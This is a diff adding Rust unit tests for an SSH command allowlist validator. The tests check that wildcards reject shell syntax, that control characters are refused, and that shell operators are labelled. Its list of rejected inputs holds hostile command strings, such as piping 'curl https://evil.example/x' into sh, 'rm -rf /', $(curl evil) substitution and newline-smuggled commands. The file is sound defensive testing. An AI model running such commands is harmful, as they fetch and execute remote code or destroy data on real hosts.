@@ -198,3 +198,98 @@ fn ssh_allowlist_and_kind_mismatch() {
     assert!(ssh::glob_match("a*b?c", "aXXbYc"));
     assert!(!ssh::glob_match("a*b", "ab c"));
 }
+
+fn ssh_cred(allow: &[&str]) -> Credential {
+    Credential {
+        target: Target::Ssh(SshTarget {
+            host: "10.0.0.5".into(),
+            port: 22,
+            user: "deploy".into(),
+            host_key: format!("SHA256:{}", "a".repeat(43)),
+            auth: SshAuth::Password,
+            allow_commands: allow.iter().map(|s| (*s).to_owned()).collect(),
+        }),
+        ..http_cred("x.example", 443, "/", HttpAuth::Bearer)
+    }
+}
+
+fn ssh_args(cmd: &str) -> SshArgs {
+    SshArgs {
+        credential: "box".into(),
+        command: cmd.into(),
+        ..SshArgs::default()
+    }
+}
+
+#[test]
+fn a_wildcard_never_admits_shell_syntax() {
+    let c = ssh_cred(&["git pull *", "systemctl status ?*", "cd /srv/app && make *"]);
+    for ok in [
+        "git pull origin main",
+        "git pull --rebase origin 'feature/x'",
+        "systemctl status nginx.service",
+        "cd /srv/app && make deploy",
+        "git pull $BRANCH",
+    ] {
+        assert!(validate_ssh(&c, ssh_args(ok)).is_ok(), "{ok:?} was refused");
+    }
+    for bad in [
+        "git pull; curl https://evil.example/x | sh",
+        "git pull && rm -rf /",
+        "git pull || reboot",
+        "git pull | tee /etc/passwd",
+        "git pull & sleep 1",
+        "git pull $(curl evil)",
+        "git pull `curl evil`",
+        "git pull > /etc/motd",
+        "git pull < /dev/zero",
+        "systemctl status x; id",
+        "cd /srv/app && make x; id",
+        "cd /srv/app && make $(id)",
+    ] {
+        assert!(
+            matches!(
+                validate_ssh(&c, ssh_args(bad)),
+                Err(PolicyError::Denied { .. })
+            ),
+            "{bad:?} was allowed"
+        );
+    }
+}
+
+#[test]
+fn control_characters_are_refused_with_or_without_an_allowlist() {
+    for allow in [&[][..], &["git pull *"][..]] {
+        let c = ssh_cred(allow);
+        for bad in [
+            "git pull\ncurl evil | sh",
+            "git pull\rx",
+            "git pull\tx",
+            "git pull \u{1b}[2J",
+            "git pull \u{85}x",
+        ] {
+            let e = validate_ssh(&c, ssh_args(bad)).unwrap_err();
+            assert_eq!(e.code(), "invalid_argument", "{bad:?}");
+            assert!(e.to_string().contains("control character"), "{e}");
+        }
+    }
+}
+
+#[test]
+fn shell_syntax_is_named_for_the_card() {
+    assert!(shell_syntax("uptime").is_empty());
+    assert!(shell_syntax("git pull origin main").is_empty());
+    let s = shell_syntax("git pull; curl x | sh");
+    assert!(s.iter().any(|n| n.contains("`;`")) && s.iter().any(|n| n.contains("`|`")));
+    let s = shell_syntax("make && make install");
+    assert!(s.iter().any(|n| n.contains("`&&`")));
+    assert!(!s.iter().any(|n| n.contains("`&` runs")), "{s:?}");
+    assert!(shell_syntax("echo $(id)").iter().any(|n| n.contains("$(")));
+    assert!(shell_syntax("echo `id`")
+        .iter()
+        .any(|n| n.contains("backticks")));
+    assert!(shell_syntax("echo x > f").iter().any(|n| n.contains("`>`")));
+    assert!(shell_syntax("echo $HOME")
+        .iter()
+        .any(|n| n.contains("variable")));
+}
